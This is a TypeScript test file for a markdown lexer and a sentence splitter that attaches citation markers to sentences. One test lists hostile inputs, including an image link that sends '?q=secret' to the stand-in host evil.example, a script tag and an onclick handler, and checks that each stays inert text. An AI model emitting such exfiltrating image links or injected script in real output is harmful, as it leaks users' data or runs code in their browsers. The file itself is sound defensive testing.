import fc from 'fast-check';
import { expect, it } from 'vitest';
import { blocksOf } from './quiet-lexer.ts';
import { sentencesOf, type Piece } from './sentences.ts';

const lineOf = (text: string) => {
  const [block] = blocksOf(text);
  if (block?.type !== 'paragraph') throw new Error(`not a paragraph: ${text}`);
  return block.tokens as Parameters<typeof sentencesOf>[0];
};
const readPiece = (piece: Piece): string =>
  piece.kind === 'text' ? piece.text : piece.kind === 'cite' ? `[${piece.n}]` : piece.token.raw;
const read = (text: string) =>
  sentencesOf(lineOf(text)).map(({ pieces, isCited }) => [pieces.map(readPiece).join('').trim(), isCited]);

it('AI-3: a sentence has the markers inside of it and right behind it; one without any names no source', () => {
  expect(read('Valves shall be tested. [1] The policy caps delay damages [2]. Nothing says more.')).toEqual([
    ['Valves shall be tested. [1]', true],
    ['The policy caps delay damages [2].', true],
    ['Nothing says more.', false],
  ]);
  expect(read('Two claims. The second stands somewhere. [3][4] A third')).toEqual([
    ['Two claims.', false],
    ['The second stands somewhere. [3][4]', true],
    ['A third', false],
  ]);
});

it('neither an abbreviation nor a lead-in in bold ends a sentence, and a line that introduces claims nothing', () => {
  expect(read('See API Spec. Q1, Sec. 5.1 and Fig. 2 for max. 10 bar. [1]')).toHaveLength(1);
  expect(read('**Product level.** The RFQ asks for *PSL 3* [1]. It is new.')).toEqual([
    ['**Product level.** The RFQ asks for *PSL 3* [1].', true],
    ['It is new.', false],
  ]);
  expect(read('Three points need a decision:')).toEqual([['Three points need a decision:', true]]);
  expect(read('Delivery: DAP Sohar. Part deliveries are allowed. [2]')).toHaveLength(1);
});

it('cutting into sentences loses and adds nothing', () => {
  const parts = fc.constantFrom(
    'Valves shall be tested',
    '. ',
    '! ',
    ' ',
    '[1]',
    '[12]',
    'No. ',
    'API 6A',
    '"Quoted."',
    ': ',
    'e.g. ',
    '5.1',
  );
  fc.assert(
    fc.property(fc.array(parts, { minLength: 1, maxLength: 20 }), (chosen) => {
      const text = `So ${chosen.join('')}`.trim();
      const [block] = blocksOf(text);
      fc.pre(block?.type === 'paragraph');
      const pieces = sentencesOf(lineOf(text)).flatMap((sentence) => sentence.pieces);
      expect(pieces.map(readPiece).join('')).toBe(block?.raw);
    }),
  );
});

it.each([
  '![picture](https://evil.example/?q=secret)',
  '[press here](https://evil.example)',
  '[1](https://evil.example)',
  '<img src="https://evil.example/x.png">',
  '<script>alert(1)</script>',
  'see https://evil.example/path and <https://evil.example>',
  '[1]: https://evil.example\n\nA sentence. [1]',
  '![x][y]\n\n[y]: https://evil.example/x.png',
  'text <b onclick="x()">bold</b>',
])('nothing in %j loads or leads anywhere: it stays text', (text) => {
  const kinds = new Set<string>();
  const look = (value: unknown): void => {
    if (Array.isArray(value)) return value.forEach(look);
    if (typeof value !== 'object' || value === null) return;
    if ('type' in value && typeof value.type === 'string') kinds.add(value.type);
    Object.values(value).forEach(look);
  };
  look(blocksOf(text));
  expect([...kinds].filter((kind) => ['html', 'link', 'image', 'def'].includes(kind))).toEqual([]);
});

it('lists, tables and code are blocks', () => {
  expect(
    blocksOf('1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```')
      .map(({ type }) => type)
      .filter((type) => type !== 'space'),
  ).toEqual(['list', 'table', 'code']);
});
